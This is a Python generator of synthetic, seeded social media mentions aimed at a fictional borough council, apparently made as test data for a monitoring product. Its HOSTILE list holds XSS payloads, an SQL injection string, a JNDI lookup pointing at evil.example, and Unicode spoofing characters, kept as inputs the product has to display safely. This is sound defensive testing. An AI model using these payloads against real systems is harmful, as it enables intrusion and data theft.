"""Realistic, deterministic social media traffic for a fictional council.

Kingsmere Borough Council's residents write about missed bins, council tax, parking,
the libraries, housing repairs, potholes and planning; they praise, abuse and ask simple
questions; some send Freedom of Information requests (with or without a name and postal
address); journalists and local influencers with large followings start threads that
grow, with replies and reshares climbing over time; and some text is hostile (HTML and
script tags, SQL, right-to-left overrides, zero-width characters, emoji).

Everything is drawn from `random.Random(seed)`: the same seed gives the same items.

    gen = Generator(seed=1)
    items = gen.items(500, start=now - 86400, end=now)   # platform-neutral Generated items
    pages = wire_pages("x", 100_000, page_size=100)        # X mention pages, ready to parse

A Generated item's text holds MENTION where the council is @mentioned; each platform
writes its own mention syntax there (see `Generated.text_for`).
"""
from __future__ import annotations

import dataclasses
import functools
import random

MENTION = "{@}"

COUNCIL_NAME = "Kingsmere Borough Council"
TOWN = "Kingsmere"

WARDS = ["Abbey", "Brookfield", "Castle Hill", "Denford", "Eastgate", "Fairmead", "Greyfriars",
         "Harbourside", "Ivy Bank", "Kingsmere Central", "Longmoor", "Marsh End", "Northfields",
         "Old Town", "Priory", "Queensway", "Riverside", "St Anne's", "Thornbury", "Upper Weald"]
STREETS = ["Acacia Avenue", "Bramble Close", "Chapel Lane", "Dovecote Road", "Elm Grove", "Fern Street",
           "Gorse Way", "Hawthorn Drive", "Juniper Court", "Kestrel Rise", "Larkspur Road", "Mill Lane",
           "Nightingale Crescent", "Orchard Close", "Poplar Walk", "Quarry Road", "Rosemary Gardens",
           "Sandpit Lane", "Tanners Row", "Victoria Terrace", "Wharf Road", "Willow Way", "Yew Tree Lane",
           "Station Road", "High Street", "Church Street", "London Road", "Mere Road", "Castle Street",
           "Bridge Street", "Meadow View", "Foundry Lane", "Harbour Parade", "Weald Road"]
ROADS = ["the A412", "Mere Road roundabout", "London Road", "the bypass", "Station Road", "Castle Street",
         "the junction by Tesco", "Weald Road", "the bus lane on High Street", "Bridge Street"]
LIBRARIES = ["Central Library", "Brookfield Library", "Eastgate Library", "Marsh End Library",
             "Northfields Community Library"]
PARKS = ["Victoria Park", "Mere Gardens", "Castle Fields", "Riverside Walk", "Longmoor Rec"]
SCHOOLS = ["St Anne's Primary", "Kingsmere Academy", "Northfields Juniors", "Eastgate High"]
CAR_PARKS = ["Mere Street car park", "the multi-storey", "Castle car park", "the leisure centre car park",
             "Station Road car park"]
BIN_COLOURS = ["black", "blue", "green", "brown", "grey", "food waste", "garden waste", "recycling"]
DAYS = ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday"]
MONTHS = ["January", "February", "March", "April", "May", "June", "July", "August", "September",
          "October", "November", "December"]
FIRST_NAMES = ["Aisha", "Alan", "Amelia", "Amir", "Barbara", "Ben", "Bethany", "Callum", "Carol", "Chloe",
               "Chris", "Connor", "Dave", "Deborah", "Declan", "Ellie", "Emma", "Fatima", "Fiona", "Gareth",
               "Grace", "Hannah", "Harry", "Imran", "Isla", "Jack", "Jade", "James", "Jan", "Jo", "Karen",
               "Kieran", "Laura", "Leon", "Liam", "Lucy", "Maria", "Mark", "Megan", "Mohammed", "Nadia",
               "Neil", "Niamh", "Olu", "Paul", "Pauline", "Priya", "Rachel", "Raj", "Rebecca", "Rhys",
               "Rob", "Ruth", "Sam", "Sandra", "Sarah", "Sean", "Shirley", "Sophie", "Steve", "Tariq",
               "Tom", "Tony", "Tracey", "Vicky", "Wendy", "Yusuf", "Zainab", "Zoe", "Agnieszka", "Tomasz",
               "Bogdan", "Ioana", "Kwame", "Chidi", "Siobhan", "Margaret", "Derek", "Ivy", "Noah"]
SURNAMES = ["Adams", "Ahmed", "Ali", "Bailey", "Baker", "Begum", "Bennett", "Brown", "Campbell", "Carter",
            "Chapman", "Clarke", "Collins", "Cooper", "Davies", "Dixon", "Edwards", "Ellison", "Evans",
            "Fisher", "Foster", "Green", "Griffiths", "Hall", "Harris", "Hughes", "Hussain", "Jackson",
            "James", "Jenkins", "Johnson", "Jones", "Kaur", "Kelly", "Khan", "King", "Kowalski", "Lewis",
            "Marsh", "Martin", "Mason", "Mitchell", "Moore", "Morgan", "Murphy", "Nowak", "O'Brien", "Okafor",
            "Owen", "Palmer", "Parker", "Patel", "Phillips", "Price", "Roberts", "Robinson", "Rogers", "Shah",
            "Shaw", "Singh", "Smith", "Taylor", "Thomas", "Thompson", "Turner", "Walker", "Ward", "Watson",
            "White", "Williams", "Wilson", "Wood", "Wright", "Young", "Mensah", "Popescu", "Doherty"]
OUTLETS = ["Kingsmere Gazette", "Mere Valley Echo", "BBC South", "Kingsmere Live", "Weald Radio",
           "The Harbourside Herald", "Local Democracy Reporting Service"]
EMOJI = ["😡", "🙄", "😤", "👏", "🙏", "😂", "🤦", "💩", "🗑️", "🚗", "🕳️", "📚", "🏠", "❤️", "👍", "😢",
         "🤬", "😊", "🔥", "🚮", "⚠️", "🌧️", "🇬🇧", "👨‍👩‍👧‍👦"]
HASHTAGS = ["#Kingsmere", "#KingsmereCouncil", "#bins", "#potholes", "#councilTax", "#localgov",
            "#parking", "#housing", "#planning", "#libraries", "#MereValley", "#FOI"]

# Hostile content: what the product must store verbatim and display safely.
HOSTILE = [
    "<script>alert('pwned')</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "<a href=\"javascript:alert(1)\">click for refund</a>",
    "\"><svg/onload=confirm(1)>",
    "Robert'); DROP TABLE mentions;--",
    "{{7*7}} ${jndi:ldap://evil.example/a}",
    "\u202egnidliub licnuoc eht ta tnemom a ni\u202c",
    "مجلس البلدية لم يجمع القمامة منذ أسبوعين",
    "העירייה לא פינתה את הפח",
    "bins\u200b\u200bnot\u200bcollected\u200d again\ufeff",
    "Z̵̢̛a̴̧̛l̷̨̛g̸̢̛ơ̵̧ ̸c̷̛o̵u̶n̴c̷i̸l̵",
    "🗑️🗑️🗑️😡😡😡🤬🤬",
    "line one\r\nline two\ttabbed\r\n\r\n-- sent from my phone",
    "ｆｕｌｌｗｉｄｔｈ ｔｅｘｔ ａｂｏｕｔ ｂｉｎｓ",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E &lt;b&gt;escaped&lt;/b&gt; &amp;amp;",
]

TOPIC_WEIGHTS = [
    ("bins", 16), ("council_tax", 9), ("parking", 9), ("library", 6), ("housing", 9), ("potholes", 9),
    ("planning", 7), ("praise", 8), ("abuse", 5), ("question", 10), ("foi", 3), ("hostile", 3),
    ("chatter", 8), ("service_chat", 6), ("controversy", 4), ("at_risk", 1),
]

TEMPLATES = {
    "bins": [
        "cheers {@}, {street} now has its own landfill site. {n}th week the {colour} bin's been ignored",
        "{@} the lorry came, looked at our bins, and drove off. {street}, {day}. is that a new policy",
        "nobody's emptied the {colour} ones on {street} since the start of {month} {@}, the smell in this heat",
        "{@} bin men dropped half a bag of glass all over the road outside {house} {street} and left it",
        "{@} my {colour} bin on {street} hasn't been collected AGAIN. That's {n} weeks now.",
        "{@} missed bin collection on {street} ({ward}), reported it on {day} and still nothing",
        "Hey {@} the bin lorry skipped the whole of {street} today. Is it coming back?",
        "{@} why do your crews leave half the rubbish on the pavement? {street} looks like a tip",
        "Third missed {colour} bin this month {@}. I pay my council tax like everyone else",
        "{@} foxes have had a field day with the uncollected bags on {street}. Photos attached",
        "{@} is the {colour} bin collection in {ward} delayed because of the bank holiday?",
        "{@} reported missed bin ref {ref} online and it just says 'in progress' for {n} days",
    ],
    "council_tax": [
        "{@} moved out of {street} in {month}, told you twice, still getting bills for it. ref {ref}",
        "so {@} took the direct debit twice and now says it'll be 'resolved in the next billing cycle'. I need that £{amount} now",
        "{@} my council tax bill has gone up by £{amount} and nobody can explain why",
        "{@} I've been charged council tax twice this month, account {ref}. Please refund",
        "{@} applied for single person discount in {month} and still being billed for two adults",
        "Been on hold to {@} council tax for {mins} minutes. Is anyone actually there?",
        "{@} how do I set up a direct debit for council tax? The link on your site is broken",
        "{@} £{amount} a year in council tax and the street lights on {street} have been out for weeks",
    ],
    "parking": [
        "{@} got a parking fine on {street} where there are NO signs. Appealing this",
        "{@} PCN {ref} issued while I was paying at the machine in {car_park}. Disgraceful",
        "{@} the pay and display machine in {car_park} has been broken for a fortnight",
        "{@} cars parked on the pavement all along {street} again, wheelchair users can't get past",
        "{@} residents' permit zone on {street} is a joke, never a space after 6pm",
        "{@} why has parking in {car_park} gone up to £{small_amount} an hour?!",
    ],
    "library": [
        "{@} {library} was shut at {time} today even though the website says it's open till 7",
        "Lovely afternoon at {library} with the kids, thanks {@} 📚",
        "{@} will {library} be open over the bank holiday weekend?",
        "{@} please don't cut the hours at {library}, it's a lifeline for older residents",
        "{@} the self-service machines at {library} are all out of order again",
    ],
    "housing": [
        "{@} water's coming through the light fitting in the bathroom at {house} {street}. repairs said next {month}??",
        "{@} the front door of our block on {street} doesn't lock any more, any stranger can stroll in. rang it in {n} times",
        "{@} there's been black mould in my daughter's bedroom for {n} months. Repair ref {ref}",
        "{@} still no heating in our flat on {street}, reported {n} weeks ago. We have a newborn",
        "{@} housing repairs keep booking appointments and nobody turns up. {n} times now",
        "{@} damp coming through the ceiling at {house} {street}. Who do I even call?",
        "{@} been on the housing register for {n} years in temporary accommodation. Any update?",
        "{@} the lift in the {ward} tower block has been broken since {month}, I'm on the 9th floor",
    ],
    "potholes": [
        "the crater on {road} has now got its own postcode {@}",
        "{@} wheel trim number {n} lost to the hole outside {school}. do you want them back or shall I keep collecting",
        "{@} massive pothole on {road}, nearly came off my bike this morning 🕳️",
        "{@} the pothole outside {house} {street} has now burst two of my tyres. Who pays?",
        "{@} reported this pothole on {road} {n} times. It's a crater now",
        "Someone's planted daffodils in the pothole on {street} because {@} won't fix it 😂",
        "{@} when are you resurfacing {road}? It's like driving on the moon",
    ],
    "planning": [
        "{@} objecting to planning application {planning_ref} on {street}. Six storeys is far too high",
        "{@} why was the application to build on {park} approved without proper consultation?",
        "Packed public meeting about the {ward} development tonight. {@} needs to listen",
        "{@} my neighbour is building an extension without permission, who do I report it to?",
        "{@} the planning portal has been down all day and the objection deadline is tomorrow",
    ],
    "praise": [
        "Whoever was on the gritter round {ward} at 5am, you're a hero. Roads perfect {@}",
        "can't fault the crew on {street} today, chucking it down and they still put every bin back {@}",
        "Huge thanks to the {@} crew who cleared the fly-tipping on {street} within a day 👏",
        "Credit where it's due {@}, the new crossing by {school} is brilliant",
        "{@} the staff at {library} were so helpful with my bus pass renewal. Thank you!",
        "Pothole on {street} fixed two days after I reported it. Well done {@}",
        "{@} {park} looks beautiful this week, thank you to the parks team ❤️",
        "Really impressed with {@} housing officer who sorted our repair so fast",
    ],
    "abuse": [
        "{@} you are a bunch of useless clowns. Absolute joke of a council 🤡",
        "{@} incompetent idiots, the lot of you. Resign",
        "{@} you lot couldn't organise a piss-up in a brewery. Disgusting",
        "Whoever runs {@} social media should be sacked, you're all parasites",
        "{@} shove your council tax where the sun doesn't shine 🖕",
    ],
    "question": [
        "{@} not complaining, just can't find where the garden waste sign-up went on the new site?",
        "anyone know if {library} still does the free printing for job applications? {@}",
        "{@} do the recycling rules change in {ward} when the new bins arrive or is it the same stuff",
        "is it this week or next week for the {colour} bin on {street}? lost the calendar again {@}",
        "{@} what time does the library open on Saturday?",
        "{@} how do I apply for a parking permit?",
        "{@} which day is bin collection on {street}?",
        "{@} is the tip open on bank holiday Monday?",
        "{@} how do I report a broken street light?",
        "{@} where can I get a replacement {colour} bin?",
        "{@} do I need a permit to put a skip on the road?",
        "{@} how do I register to vote? Just moved to {ward}",
        "{@} when does {library} close today?",
        "{@} can I pay my council tax by card over the phone?",
    ],
    "foi": [
        "{@} Under the Freedom of Information Act 2000 please provide {foi_subject}.",
        "{@} Freedom of Information request: please provide {foi_subject}, broken down by ward.",
        "{@} This is a request under the Freedom of Information Act. Please provide {foi_subject} for "
        "{year}/{next_year}.",
    ],
    "chatter": [
        "{park} at sunrise this morning, honestly the best bit of {town} {@}",
        "who else remembers when {street} had three pubs and a cinema? {@} you must have the photos",
        "my dog has decided {park} belongs to him now {@}. the ducks disagree",
        "lol the {colour} bin is now a goal post on {street}, the kids have spoken {@}",
        "ha same {@}",
        "{town} traffic is a personality test and I am failing {@}",
        "best chippy in {ward}? asking for a very hungry friend, not you {@}",
        "the {ward} fireworks were something else last night 🎆 {@}",
    ],
    "service_chat": [
        "{@} the new reading group at {library} was lovely, any chance of an evening one for people who work?",
        "Really interesting to hear what people think of the plans for {park}, the play area bit sounds great {@}",
        "{@} the {colour} bin trial in {ward} has been fine for us, the bags are a bit thin though. anyone else?",
        "the later closing at {library} on weekdays is ace, Sunday mornings next please {@}",
        "anyone been to the consultation drop-in about {road}? curious what the council said {@}",
        "{@} the junior parkrun at {park} is the highlight of our week, could do with a couple more marshals",
    ],
    "controversy": [
        "{@} spent £{amount}k on a rebrand while {library} loses its Saturday hours. Someone explain that",
        "Councillors in {ward} waved through the {street} flats despite 400 objections. Who are they working for? {@}",
        "Petition to keep {library} open has passed {n},000 signatures. See you at full council {@}",
        "{@} closing the {park} toilets to save money and then fining people for weeing in bushes. genius",
        "If {@} doesn't sort the cladding on the {ward} blocks by {month} we'll see them in court",
    ],
    "at_risk": [
        "{@} the old gentleman at {house} {street} hasn't been seen for days and his post is piling up",
        "{@} my mum's 88 and the heating in her flat on {street} has been off {n} days, she's in bed in her coat",
        "there's a woman sleeping by the {car_park} stairs every night and it's freezing {@} who do we tell",
        "{@} the kids at {house} {street} are out on their own till midnight most nights, they're tiny",
    ],
    "journalist": [
        "{@} we're hearing {n} households in {ward} have had no bin collection for two weeks. Can you "
        "comment before 5pm? DMs open",
        "NEW: {@} confirms council tax will rise by {percent}% from April. Full story on the {outlet} "
        "website",
        "{@} has yet to respond to questions about the mould in {ward} council flats. Story to follow",
        "Thread 🧵 on why {ward} residents are furious with {@} over the {street} development 1/",
        "{@} statement please on the collapsed wall on {street}? Residents say they reported it in {month}",
    ],
    "influencer": [
        "Honestly {@} what is going on with the bins?! My followers in {ward} are all saying the same 🙄",
        "Drove down {road} today. {@} fix your roads!! RT if you agree 🚗🕳️",
        "Spent the day at {park} with the kids, looks amazing, big up {@} ❤️ #Kingsmere",
        "{@} been told my video about {street} parking got 100k views. Maybe listen to residents?",
        "Day {n} of asking {@} to fix the pothole on {street} 🕳️ #potholes",
    ],
    "reply": [
        "Same here on {street}, nothing collected for {n} weeks",
        "This is so true. {@} never listens",
        "Completely agree 👏",
        "Mine was fixed last week, try ringing them instead",
        "Exactly this. Sharing.",
        "@{author} have you tried the online form? Worked for me",
        "Disgraceful. {@} should be ashamed",
        "It's the same in {ward}, been like this since {month}",
        "Not the council's fault, it's government cuts",
        "Any update on this?",
        "Ha! Good luck getting a reply",
        "Thanks for raising this, I'll email my councillor",
    ],
}

FOI_SUBJECTS = [
    "the number of missed bin collections in each ward between April {year} and March {next_year}",
    "the total spent on agency staff in the housing repairs service in {year}",
    "the number of parking penalty charge notices issued on {street} in the last 12 months and the "
    "income received",
    "all correspondence between the council and developers regarding application {planning_ref}",
    "the number of council homes with reported damp or mould and the average time to repair",
    "the cost of the council's social media monitoring contracts since {year}",
    "the number of potholes reported on {road} and the date each was repaired",
    "the salaries of all staff earning over £100,000",
    "the number of complaints about {library} opening hours received since {month} {year}",
]
FOI_CLOSERS_NAMED = [
    "\n\nYours faithfully,\n{full_name}\n{house} {street}, {town} {postcode}",
    " Please reply to {full_name}, {house} {street}, {town} {postcode}.",
    "\n\n{full_name}, {house} {street}, {town} {postcode}. Email: {email}",
]
FOI_CLOSERS_ANON = [
    " Thanks.",
    " Reply here please.",
    "\n\nA concerned resident",
    " I'd rather not give my name.",
]

# The council's own posts, which comments and replies hang on.
OWN_POSTS = [
    "Garden waste collections restart on Monday. Check your collection day on our website.",
    "Our libraries are open late on Thursdays until 8pm. Pop in and see what's on this month.",
    "Council tax bills for the new financial year are on their way. Set up a direct debit online.",
    "Roadworks on London Road start next week for resurfacing. Expect delays between 9am and 4pm.",
    "Have your say on the draft Local Plan: the consultation is open until the end of the month.",
    "Thank you to everyone who came to the Victoria Park summer fair! 📸 Photos to follow.",
    "Severe weather warning: gritters are out tonight on all priority routes. Please take care.",
    "Parking permits can now be renewed online in a few minutes. No need to call us.",
]

OPENERS = ["", "", "", "", "Hi ", "Morning ", "Hello ", "Dear ", "Oi ", "URGENT: ", "Again. "]
CLOSERS = ["", "", "", "", " Thanks", " Please help", " Sort it out!", " Cheers.", " Not good enough.",
           " Any update?", " #Kingsmere", " 🙄", " 😡", " 👏", " 🙏"]


@dataclasses.dataclass(slots=True, frozen=True, eq=False)
class Persona:
    """Someone who writes about the council: a resident, journalist, influencer..."""

    key: int
    kind: str  # resident, journalist, influencer, councillor, business, troll
    handle: str
    name: str
    followers: int
    following: int
    verified: bool
    bio: str
    created_at: float
    posts_count: int


@dataclasses.dataclass(slots=True)
class Generated:
    seq: int
    kind: str  # mention, comment or reply
    topic: str
    text: str  # MENTION marks where the council is @mentioned
    author: Persona
    created_at: float
    thread: int | None = None  # seq of the item this one replies to
    likes: int = 0
    replies: int = 0
    reshares: int = 0
    tau: float = 0.0  # seconds for engagement to reach about 63% of its total
    tags: tuple[str, ...] = ()

    def text_for(self, mention: str) -> str:
        """The text with the platform's mention (e.g. "@KingsmereBC"), or none when empty."""
        if MENTION not in self.text:
            return self.text
        if mention:
            return self.text.replace(MENTION, mention)
        text = self.text.replace(MENTION + " ", "").replace(" " + MENTION, "").replace(MENTION, "")
        return text[:1].upper() + text[1:] if text else text


def _diurnal(hour: int) -> float:
    """Relative posting activity by hour of day (UK): quiet at night, peaks evening."""
    return [0.15, 0.1, 0.06, 0.05, 0.05, 0.1, 0.3, 0.6, 0.9, 1.0, 0.95, 0.9, 1.0, 0.95, 0.85, 0.8,
            0.85, 0.95, 1.0, 1.0, 0.95, 0.8, 0.5, 0.3][hour]


@functools.lru_cache(maxsize=16)
def _people(seed: int, residents: int) -> tuple[Persona, ...]:
    """The cast: journalists, influencers, councillors, businesses, trolls and residents."""
    rng = random.Random(seed * 7919 + 1)
    people: list[Persona] = []
    used: set[str] = set()

    def add(kind, handle, name, followers, verified, bio):
        base = handle
        n = 2
        while handle.lower() in used:
            handle = f"{base}{n}"
            n += 1
        used.add(handle.lower())
        people.append(Persona(
            key=len(people) + 1, kind=kind, handle=handle[:30], name=name, followers=followers,
            following=int(rng.lognormvariate(5.5, 0.8)), verified=verified, bio=bio,
            created_at=1_230_000_000 + rng.random() * 480_000_000,
            posts_count=int(rng.lognormvariate(7, 1.2)),
        ))

    for outlet in OUTLETS:
        for _ in range(2):
            first, last = rng.choice(FIRST_NAMES), rng.choice(SURNAMES)
            handle = rng.choice([f"{first}{last}", f"{first[0]}{last}News", f"{first}_{last}_reports"])
            add("journalist", handle.replace("'", ""), f"{first} {last}",
                int(rng.uniform(4_000, 60_000)), rng.random() < 0.7,
                f"Reporter at {outlet}. Tips: DMs open. Views my own.")
    influencer_handles = ["KingsmereMum", "MereValleyFoodie", "KingsmereCyclist", "WealdWalks",
                          "TheKingsmereDad", "HarboursideStyle", "KingsmereUncovered", "OldTownHistory",
                          "KM_Fitness", "MereLifeBlog", "KingsmereNoise", "ParentsOfKingsmere"]
    for handle in influencer_handles:
        add("influencer", handle, handle.replace("_", " "), int(rng.lognormvariate(10.8, 0.8)),
            rng.random() < 0.5, f"Life in {TOWN} 📍 Collabs: link below")
    for ward in WARDS[:10]:
        first, last = rng.choice(FIRST_NAMES), rng.choice(SURNAMES)
        add("councillor", f"Cllr{first}{last}".replace("'", ""), f"Cllr {first} {last}",
            int(rng.uniform(600, 6_000)), rng.random() < 0.3, f"Councillor for {ward} ward.")
    for name in ["Mere Street Traders", "Kingsmere Chamber", "Castle Cafe KM", "Harbourside Bikes"]:
        add("business", name.replace(" ", ""), name, int(rng.uniform(300, 5_000)), False,
            f"Independent business in {TOWN}")
    for _ in range(40):
        handle = rng.choice(["patriot", "truth", "anon", "user", "realvoice", "wakeup"]) + str(
            rng.randrange(1000, 99_999_999))
        add("troll", handle, rng.choice(["Truth Seeker", "Anon", "Real Voice", "🇬🇧 Patriot", "Awake"]),
            rng.randrange(0, 60), False, "")
    for _ in range(residents):
        first, last = rng.choice(FIRST_NAMES), rng.choice(SURNAMES)
        clean = last.replace("'", "")
        handle = rng.choice([
            f"{first}{clean}", f"{first.lower()}_{clean.lower()}{rng.randrange(1, 99)}",
            f"{first[0]}{clean}KM", f"{first.lower()}{rng.randrange(1960, 2006)}",
            f"{clean.lower()}family", f"{first}From{rng.choice(WARDS).replace(' ', '').replace(chr(39), '')}",
        ])
        followers = int(rng.lognormvariate(5.0, 1.3))
        add("resident", handle, f"{first} {last}" if rng.random() < 0.8 else first, followers,
            False, rng.choice(["", "", f"{TOWN} born and bred", "Mum of 3", "Dog walker", "Retired teacher",
                               "Views my own", f"{rng.choice(WARDS)} resident"]))
    return tuple(people)


class Generator:
    def __init__(self, seed: int = 0, *, residents: int = 2500, people_seed: int | None = None):
        self.seed = seed
        self.rng = random.Random(seed)
        self._seq = 0
        self.personas = _people(seed if people_seed is None else people_seed, residents)
        self.by_kind: dict[str, list[Persona]] = {}
        for persona in self.personas:
            self.by_kind.setdefault(persona.kind, []).append(persona)
        self._topics = [t for t, _ in TOPIC_WEIGHTS]
        self._weights = [w for _, w in TOPIC_WEIGHTS]
        self._cum = []
        total = 0
        for w in self._weights:
            total += w
            self._cum.append(total)
        self._roots: list[Generated] = []  # recent thread starters, for replies

    # --- items --------------------------------------------------------------------

    def items(self, n: int, *, start: float, end: float, kinds: tuple[str, ...] = ("mention",)) -> list[Generated]:
        """`n` items with times spread over [start, end] (busier by day), oldest first.

        About one in eight is a reply in a thread started by an earlier item (journalists'
        and influencers' posts draw most replies), so threads grow over the period.
        """
        times = self._times(n, start, end)
        return [self.next_item(t, kinds=kinds) for t in times]

    def _times(self, n: int, start: float, end: float) -> list[float]:
        rng = self.rng
        span = max(0.0, end - start)
        out = []
        while len(out) < n:
            t = start + rng.random() * span
            if span < 6 * 3600 or rng.random() < _diurnal(int((t % 86400) // 3600)):
                out.append(t)
        out.sort()
        return out

    def next_item(self, when: float, *, kinds: tuple[str, ...] = ("mention",)) -> Generated:
        rng = self.rng
        self._seq += 1
        if len(self._roots) > 80:
            self._roots = self._roots[-40:]
        if self._roots and rng.random() < 0.13:
            root = rng.choice(self._roots)
            if when - root.created_at < 3 * 86400:
                return self._reply(when, root)
        x = rng.random() * self._cum[-1]
        topic = self._topics[next(i for i, c in enumerate(self._cum) if x < c)]
        persona_kind = "resident"
        roll = rng.random()
        if roll < 0.03:
            topic, persona_kind = "journalist", "journalist"
        elif roll < 0.06:
            topic, persona_kind = "influencer", "influencer"
        elif roll < 0.075:
            persona_kind = "councillor"
        elif topic == "abuse" and rng.random() < 0.5:
            persona_kind = "troll"
        author = rng.choice(self.by_kind[persona_kind])
        text, tags = self._text(topic, author)
        kind = rng.choice(kinds)
        item = Generated(self._seq, kind, topic, text, author, when, tags=tags)
        self._engagement(item)
        if persona_kind in ("journalist", "influencer") or item.likes > 200:
            self._roots.append(item)
        return item

    def _reply(self, when: float, root: Generated) -> Generated:
        rng = self.rng
        author = rng.choice(self.by_kind["resident"])
        text = self._fill(rng.choice(TEMPLATES["reply"]), author).replace("{author}", root.author.handle)
        if MENTION not in text and rng.random() < 0.6:
            text = f"{MENTION} {text}"
        item = Generated(self._seq, "reply", root.topic, text, author, when, thread=root.seq, tags=("reply",))
        self._engagement(item)
        root.replies += 1 + rng.randrange(0, 3)
        root.reshares += rng.randrange(0, 4)
        root.likes += rng.randrange(0, 10)
        return item

    def _engagement(self, item: Generated) -> None:
        rng = self.rng
        reach = {"journalist": 40.0, "influencer": 60.0, "councillor": 6.0, "business": 3.0}.get(item.author.kind, 1.0)
        item.likes = int(rng.lognormvariate(0.8, 1.1) * reach)
        item.replies = int(rng.lognormvariate(0.0, 1.0) * reach / 3)
        item.reshares = int(rng.lognormvariate(-0.5, 1.2) * reach / 2)
        item.tau = rng.uniform(600, 4 * 3600)

    # --- text ---------------------------------------------------------------------

    def _text(self, topic: str, author: Persona) -> tuple[str, tuple[str, ...]]:
        rng = self.rng
        tags = [topic]
        if topic == "hostile":
            base, _ = self._text(rng.choice(["bins", "council_tax", "parking", "abuse", "question"]), author)
            payload = rng.choice(HOSTILE)
            text = rng.choice([f"{payload} {base}", f"{base} {payload}", f"{MENTION} {payload}"])
            return text, ("hostile",)
        if topic == "journalist":
            text = self._fill(rng.choice(TEMPLATES["journalist"]), author)
            return text, ("journalist", "press")
        if topic == "foi":
            text = self._fill(rng.choice(TEMPLATES["foi"]), author)
            named = rng.random() < 0.55
            closer = rng.choice(FOI_CLOSERS_NAMED if named else FOI_CLOSERS_ANON)
            text += self._fill(closer, author)
            return text, ("foi", "foi_named" if named else "foi_anonymous")
        template = rng.choice(TEMPLATES[topic])
        if topic == "question":
            tags.append("simple_question")
        text = self._fill(template, author)
        if topic not in ("foi",):
            text = self._style(text, topic)
        return text, tuple(tags)

    def _style(self, text: str, topic: str) -> str:
        rng = self.rng
        opener = rng.choice(OPENERS)
        if opener and text.startswith(MENTION):
            text = f"{MENTION} {opener.strip()} {text[len(MENTION):].lstrip()}"
        elif opener:
            text = opener + text
        text += rng.choice(CLOSERS)
        roll = rng.random()
        if topic in ("abuse", "bins", "housing") and roll < 0.12:
            text = text.upper().replace(MENTION.upper(), MENTION)
        elif roll < 0.2:
            text = text.lower().replace(MENTION.lower(), MENTION)
        if rng.random() < 0.15:
            text += " " + rng.choice(EMOJI)
        if rng.random() < 0.08:
            text += " " + rng.choice(HASHTAGS)
        if rng.random() < 0.05:
            i = rng.randrange(1, max(2, len(text) - 1))
            if text[i].isalpha() and text[i - 1].isalpha():
                text = text[:i - 1] + text[i] + text[i - 1] + text[i + 1:]  # a typo
        return text

    def _fill(self, template: str, author: Persona) -> str:
        return template.format_map(_Slots(self.rng, author))


_POSTCODE_LETTERS = "ABDEFGHJLNPQRSTUWXYZ"
_SLOTS = {
    "@": lambda r, s: MENTION,
    "street": lambda r, s: r.choice(STREETS),
    "ward": lambda r, s: r.choice(WARDS),
    "road": lambda r, s: r.choice(ROADS),
    "library": lambda r, s: r.choice(LIBRARIES),
    "park": lambda r, s: r.choice(PARKS),
    "school": lambda r, s: r.choice(SCHOOLS),
    "car_park": lambda r, s: r.choice(CAR_PARKS),
    "colour": lambda r, s: r.choice(BIN_COLOURS),
    "day": lambda r, s: r.choice(DAYS),
    "month": lambda r, s: r.choice(MONTHS),
    "n": lambda r, s: r.randrange(2, 9),
    "mins": lambda r, s: r.choice([25, 40, 55, 70, 95]),
    "amount": lambda r, s: r.choice(["86", "112", "149.50", "210", "312.74", "64.20"]),
    "small_amount": lambda r, s: r.choice(["2.80", "3.50", "4.20"]),
    "ref": lambda r, s: f"{r.choice(['KM', 'CT', 'HR', 'PCN', 'WST'])}{r.randrange(100000, 9999999)}",
    "planning_ref": lambda r, s: f"{r.randrange(19, 25)}/{r.randrange(100, 2999):04d}/FUL",
    "time": lambda r, s: r.choice(["2pm", "3.30", "4pm", "10am", "11.15"]),
    "house": lambda r, s: r.randrange(1, 220),
    "percent": lambda r, s: r.choice(["2.99", "4.99", "7.5", "9.99"]),
    "outlet": lambda r, s: r.choice(OUTLETS),
    "year": lambda r, s: r.randrange(2019, 2025),
    "next_year": lambda r, s: str(s["year"] + 1)[-2:],
    "town": lambda r, s: TOWN,
    "postcode": lambda r, s: (f"KM{r.randrange(1, 9)} {r.randrange(1, 9)}{r.choice(_POSTCODE_LETTERS)}"
                              f"{r.choice(_POSTCODE_LETTERS)}"),
    "full_name": lambda r, s: " ".join(s.names()),
    "email": lambda r, s: "{}.{}@example.org".format(*(n.lower().replace("'", "") for n in s.names())),
    "author": lambda r, s: "{author}",
    "foi_subject": lambda r, s: r.choice(FOI_SUBJECTS).format_map(s),
}


class _Slots(dict):
    """Template values drawn on first use, so a template only spends the draws it needs
    (and a value used twice, like {year}, is the same both times)."""

    def __init__(self, rng: random.Random, author: Persona):
        super().__init__()
        self.rng = rng
        self.author = author
        self._names: tuple[str, str] | None = None

    def __missing__(self, key: str):
        value = self[key] = _SLOTS[key](self.rng, self)
        return value

    def names(self) -> tuple[str, str]:
        if self._names is None:
            name = self.author.name
            self._names = tuple(name.split(" ", 1)) if " " in name else (name, self.rng.choice(SURNAMES))
        return self._names


def wire_pages(platform: str, n: int, *, page_size: int = 100, seed: int = 0, account_id: str | None = None,
               start: float | None = None, end: float | None = None, now: float | None = None) -> list[dict]:
    """`n` generated mentions (comments on platforms without mentions) as the bodies of
    successive pages of the platform's main read endpoint, newest first, each page's
    cursor pointing at the next. Fast enough for benchmarks (100,000 items in seconds)."""
    from .server import Simulator

    sim = Simulator(seed=seed)
    return sim.bulk_pages(platform, n, page_size=page_size, account_id=account_id, start=start, end=end, now=now)
